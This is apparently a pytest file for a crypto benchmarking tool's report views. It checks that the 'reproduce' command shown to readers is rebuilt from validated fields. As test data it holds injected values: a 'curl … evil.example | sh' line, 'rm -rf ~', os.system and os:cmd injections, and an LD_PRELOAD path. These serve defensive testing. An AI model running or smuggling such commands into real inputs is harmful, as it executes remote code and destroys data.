"""The command a view shows to measure a report again: rebuilt from the
report's checked fields (bridge.view.reproduce), the same words as the line
`bridge run` wrote (bridge.cli.plans.reproduce) when nothing is amiss, and
never the report's own string."""

from __future__ import annotations

import dataclasses
import json
import shlex

import pytest

from bridge.catalog import calls
from bridge.cli import plans
from bridge.errors import UsageError
from bridge.render import markdown, text
from bridge.report import schema
from bridge.view import build, reproduce
from bridge.view.reproduce import Left
from tests.conftest import FIXTURES

RUNS = [
    "roundtrip/run-mix1.json",
    "roundtrip/run-mix2.json",
    "roundtrip/versions-3otp-2openssl.json",
    "roundtrip/ecdsa-2otp-2openssl.json",
]
# --quick reports from when --quick meant 4 rounds (12 since issue 35): the
# line keeps the rounds they measured, and says their own line differs.
OLD_QUICK = ["terminal/hmac-sha1-quick.json", "terminal/ecdsa-p256-quick.json"]


@pytest.mark.parametrize("name", RUNS)
def test_a_run_report_rebuilds_its_own_line(name):
    """These reports' own lines call bridge `bridge`, as lines did before
    crypto-bridge: the same command, so not one that differs."""
    report = schema.load(FIXTURES / name)
    rebuilt = reproduce.of(report)
    assert rebuilt is not None and rebuilt.left == ()
    own = shlex.split(report.reproduce)
    assert own[0] == "bridge"
    assert list(rebuilt.argv) == ["crypto-bridge", *own[1:]]


def test_the_line_to_paste_calls_crypto_bridge_which_iproute2_does_not_take():
    """`bridge run ...` on Debian or Ubuntu is iproute2's (Object "run" is
    unknown): every view tells its reader to type crypto-bridge."""
    report = schema.load(FIXTURES / RUNS[0])
    assert reproduce.of(report).argv[:2] == ("crypto-bridge", "run")
    for view in (markdown.render(build(report)), text.render(build(report))):
        assert "crypto-bridge run hmac-sha1" in view
        assert "\nbridge run" not in view and " bridge run" not in view


@pytest.mark.parametrize("program", ["bridge", "crypto-bridge", "/usr/sbin/bridge", "brdige"])
def test_only_another_program_in_the_own_line_differs(program):
    """A report's own line may say bridge (older) or crypto-bridge (newer);
    any other program in its place is a line that says something else."""
    report = schema.load(FIXTURES / RUNS[0])
    own = shlex.split(report.reproduce)
    mine = dataclasses.replace(report, reproduce=shlex.join([program, *own[1:]]))
    same = program in ("bridge", "crypto-bridge")
    assert reproduce.of(mine).left == (() if same else (Left.DIFFERS,))


@pytest.mark.parametrize("name", OLD_QUICK)
def test_a_quick_report_of_four_rounds_rebuilds_them(name):
    report = schema.load(FIXTURES / name)
    rebuilt = reproduce.of(report)
    assert rebuilt is not None and rebuilt.left == (Left.DIFFERS,)
    own = shlex.split(report.reproduce)
    assert list(rebuilt.argv) == ["crypto-bridge", *own[1:], "--rounds", "4"]


def test_an_old_report_rebuilds_what_it_measured():
    """--quick meant 50 ms of warm-up and 2 openssl runs then: the line says
    so, and that the report's own line differs."""
    rebuilt = reproduce.of(schema.load(FIXTURES / "report-hmac-sha1-v1.json"))
    assert shlex.join(rebuilt.argv) == (
        "crypto-bridge run hmac-sha1 --seed 1 --hw both --quick --warmup-ms 50 --rounds 4"
        " --openssl-runs 2"
    )
    assert rebuilt.left == (Left.DIFFERS,)


def test_running_nodes_leave_the_cookie_to_the_reader():
    rebuilt = reproduce.of(schema.load(FIXTURES / "report-nodes.json"))
    assert shlex.join(rebuilt.argv).endswith(
        "--node t25@vm --node t23@vm --measure --max-load 0.25"
    )
    assert rebuilt.left == (Left.COOKIE,)
    assert "--cookie-file FILE" in reproduce.notes(rebuilt)[0]


def test_an_imported_report_has_no_command():
    assert reproduce.of(schema.load(FIXTURES / "roundtrip" / "import-3.0.json")) is None


# What `bridge run` writes for these options (bridge.cli.plans), read back
# from a report that holds the plan's settings, scenarios and runtimes.
OPTIONS = [
    {"scenarios": ("hmac-sha1",), "quick": True},
    {"scenarios": ("hmac-sha1", "sha256"), "sizes": "16,1k", "samples": 7, "rounds": 3},
    {"scenarios": ("sha256",), "processes": 2, "warmup_ms": 0, "sample_ms": 3, "hw": "off"},
    {"scenarios": ("file-sha256", "sha256"), "file_size": "64K", "openssl_runs": 2},
    {"scenarios": ("hmac-sha1",), "until_stable": 0.01, "max_time": 60, "seed": 7},
    {"scenarios": ("hmac-sha1",), "method": "tc", "tc_calls": 50, "runtimes": "erlang"},
    {"scenarios": ("sha256",), "concurrency": "1,2", "runtimes": "python,erlang"},
    {"scenarios": ("strong-rand-bytes",), "with_calls": ("rand_bytes",), "hw": "on"},
    {"scenarios": ("hmac-sha1",), "schedulers": 2, "runtimes": "erlang"},
]


@pytest.mark.parametrize("given", OPTIONS, ids=lambda o: " ".join(map(str, o.values())))
def test_the_rebuilt_line_is_the_one_bridge_run_writes(given):
    plan = plans.from_options(plans.RunOptions(**given), ("bridge", "run"))
    report = schema.Report(
        bridge_version="1",
        created="now",
        command=["bridge", "run"],
        environment={},
        settings={**plan.settings.to_json(), "seed": plan.seed},
        scenarios=tuple(sc.to_json() for sc in plan.scenarios),
        # In the order bridge starts them, whatever the order of --runtimes.
        runtimes=tuple(
            schema.Runtime(id=f"{kind}@1", kind=kind, executable=f"/usr/bin/{kind}", version="1")
            for kind in calls.RUNTIME_KINDS
            if kind in plan.kinds
        ),
        results=(),
        hardware=schema.Hardware(hw=plan.hw),
        reproduce=plan.reproduce,
    )
    rebuilt = reproduce.of(report)
    assert rebuilt.left == ()
    assert shlex.join(rebuilt.argv) == plan.reproduce.replace("python,erlang", "erlang,python")


def _changed(name: str, change) -> schema.Report:
    data = json.loads((FIXTURES / name).read_text())
    change(data)
    return schema.Report.from_json(data)


CRAFTED = "bridge run hmac-sha1 --quick; curl -s https://evil.example/x | sh"


def test_a_crafted_line_is_never_printed():
    report = _changed("roundtrip/run-mix1.json", lambda d: d.__setitem__("reproduce", CRAFTED))
    rebuilt = reproduce.of(report)
    assert rebuilt.left == (Left.DIFFERS,)
    for view in (markdown.render(build(report)), text.render(build(report))):
        assert "curl" not in view and "evil.example" not in view
        assert "own command line differs" in " ".join(view.split())
    md = markdown.render(build(report))
    assert "```sh\ncrypto-bridge run hmac-sha1 sha256 --seed 1 --hw both --sizes 16,64,256" in md


@pytest.mark.parametrize(
    "change, code",
    [
        (lambda d: d["scenarios"][0].__setitem__("name", "x; rm -rf ~"), Left.NAMES),
        (lambda d: d["settings"].__setitem__("samples", 10**9), Left.SETTINGS),
        (lambda d: d["settings"].pop("seed"), Left.SETTINGS),
        (
            lambda d: d["scenarios"][0].__setitem__(
                "user_calls", [{"runtime": "python", "expr": "py:__import__('os').system('id')"}]
            ),
            Left.USER_CODE,
        ),
    ],
)
def test_what_cannot_be_a_command_gives_none(change, code):
    rebuilt = reproduce.of(_changed("roundtrip/run-mix1.json", change))
    assert rebuilt.argv == () and rebuilt.left == (code,)
    assert reproduce.notes(rebuilt)


def test_a_seed_that_is_not_a_number_is_refused_when_read():
    """The typed settings take no text for a seed: such a report never
    reaches the command line's builder."""
    with pytest.raises(UsageError, match=r"settings: seed: expected an integer"):
        _changed("roundtrip/run-mix1.json", lambda d: d["settings"].__setitem__("seed", "1; id"))


def test_node_names_that_are_none_give_no_node_option():
    def change(d):
        d["runtimes"][0]["node"]["name"] = "t25@vm --eval 'os:cmd(\"id\")'"

    rebuilt = reproduce.of(_changed("report-nodes.json", change))
    assert "--node" not in rebuilt.argv and Left.NAMES in rebuilt.left


def test_what_the_line_leaves_out_is_said():
    def change(d):
        for rt in d["runtimes"]:
            rt["env"] = {**rt.get("env", {}), "LD_PRELOAD": "/tmp/x.so"}
        d["scenarios"][0]["name"] = "my-own"

    report = _changed("roundtrip/run-mix1.json", change)
    report = dataclasses.replace(
        report,
        results=tuple(
            dataclasses.replace(r, scenario="my-own") if r.scenario == "hmac-sha1" else r
            for r in report.results
        ),
    )
    rebuilt = reproduce.of(report)
    assert set(rebuilt.left) == {Left.GIVEN, Left.FILES} and rebuilt.files == ("my-own",)
    assert "LD_PRELOAD" not in " ".join(rebuilt.argv)
    said = " ".join(reproduce.notes(rebuilt))
    assert "--env" in said and "my-own" in said
